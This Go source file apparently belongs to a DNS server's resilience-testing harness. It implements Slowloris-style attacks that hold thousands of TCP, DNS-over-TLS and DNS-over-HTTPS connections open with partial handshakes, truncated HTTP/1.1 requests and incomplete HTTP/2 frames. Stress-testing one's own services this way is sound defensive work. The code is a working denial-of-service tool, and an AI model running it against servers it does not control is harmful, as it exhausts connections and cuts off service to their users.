//go:build linux

package attack

import (
	"bytes"
	"context"
	"errors"
	"net"
	"os"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// slowness is a way to hold a connection without a whole query.
type slowness struct {
	alpn  string // with TLS, whose handshake is done; without it is empty
	first string // what is sent at once
	more  string // what is sent each second; empty: nothing
}

// How clients are slow. Who says nothing at all is let stay as long as who had an answer; all others are let stay as long as a message may take.
var (
	slowTCP = []slowness{
		{},
		{first: "\x00"},
		{first: "\x00\xff", more: "x"},
	}
	slowTLS = []slowness{
		{first: "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", more: "x"}, // the beginning of a ClientHello
		{alpn: "dot"},
		{alpn: "dot", first: "\x00"},
		{alpn: "dot", first: "\x00\xff", more: "x"},
	}
	slowHTTPS = []slowness{
		{alpn: "http/1.1"},
		{alpn: "http/1.1", first: "GET /dns-query HTTP/1.1\r\nHost: dns.example\r\n", more: "x"},
		{alpn: "http/1.1", first: "POST /dns-query HTTP/1.1\r\nHost: dns.example\r\nContent-Type: application/dns-message\r\nContent-Length: 50\r\n\r\n", more: "x"},
		{alpn: "h2", first: http2.ClientPreface + settings()},
		{alpn: "h2", first: http2.ClientPreface + settings() + headers(1, post(), http2.FlagHeadersEndHeaders)},
		{alpn: "h2", first: http2.ClientPreface + settings() + headers(1, post()[:5], 0)},
	}
	// slowContents are the requests whose content does not come.
	slowContents = []slowness{slowHTTPS[2], slowHTTPS[4]}
)

// attackSlowly is goal P5: 5,000 slow clients over TCP, as many over TLS, and 1,000 over HTTPS.
func attackSlowly(ctx context.Context, a *attacker) {
	n := a.hold(ctx, "TCP", 0, a.some(5000), a.UDP, slowTCP)
	n = a.hold(ctx, "TLS", n, a.some(5000), a.TLS, slowTLS)
	a.hold(ctx, "HTTPS", n, a.some(1000), a.HTTPS, slowHTTPS)
}

// attackContents has more clients than a listener has places, each of which has begun a request: a server that counts those as busy has no place for others.
func attackContents(ctx context.Context, a *attacker) {
	a.hold(ctx, "HTTPS", 0, a.some(3000), a.HTTPS, slowContents)
}

// hold starts some attackers, from number first on, that hold connections to a port, and returns the number of the next one.
func (a *attacker) hold(ctx context.Context, name string, first, clients, port int, ways []slowness) int {
	c := a.counter(name)
	a.present.Add(clients)
	for i := range clients {
		a.all.Go(func() {
			var once sync.Once
			for way := i; ctx.Err() == nil; way++ {
				begun := time.Now()
				how := &ways[way%len(ways)]
				conn, err := c.connect(ctx, first+i, port, how.alpn)
				once.Do(a.present.Done)
				if err != nil {
					c.failed.Add(1)
				} else {
					c.begun.Add(1)
					c.open.Add(1)
					how.hold(ctx, conn)
					c.open.Add(-1)
					c.ended.Add(1)
				}
				pause(ctx, begun.Add(turnTime))
			}
		})
	}
	return first + clients
}

// hold holds a connection until the server ends it, or ctx is done.
func (s *slowness) hold(ctx context.Context, conn net.Conn) {
	defer conn.Close()
	defer context.AfterFunc(ctx, func() { conn.Close() })()
	if _, err := conn.Write([]byte(s.first)); err != nil {
		return
	}
	buf := make([]byte, 128)
	for {
		if conn.SetReadDeadline(time.Now().Add(time.Second)) != nil {
			return
		}
		_, err := conn.Read(buf)
		switch {
		case err == nil: // what HTTP/2 has to say of itself, or that time is up
		case !errors.Is(err, os.ErrDeadlineExceeded):
			return
		case s.more != "":
			if _, err := conn.Write([]byte(s.more)); err != nil {
				return
			}
		}
	}
}

// fields are header fields of a request, in HPACK's form that leaves nothing in its table: they mean the same on each connection.
func fields(method, path string, more ...hpack.HeaderField) []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: method}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: "dns.example"}, {Name: ":path", Value: path},
	}, more...) {
		f.Sensitive = true
		if err := encoder.WriteField(f); err != nil {
			panic(err) // into memory
		}
	}
	return block.Bytes()
}

func post() []byte {
	return fields("POST", "/dns-query", hpack.HeaderField{Name: "content-type", Value: "application/dns-message"})
}

// frame is a frame of HTTP/2 (RFC 9113 section 4.1).
func frame(kind http2.FrameType, flags http2.Flags, stream uint32, content []byte) string {
	n := len(content)
	head := []byte{byte(n >> 16), byte(n >> 8), byte(n), byte(kind), byte(flags), byte(stream >> 24), byte(stream >> 16), byte(stream >> 8), byte(stream)}
	return string(append(head, content...))
}

func settings() string { return frame(http2.FrameSettings, 0, 0, nil) }

func headers(stream uint32, block []byte, flags http2.Flags) string {
	return frame(http2.FrameHeaders, flags, stream, block)
}
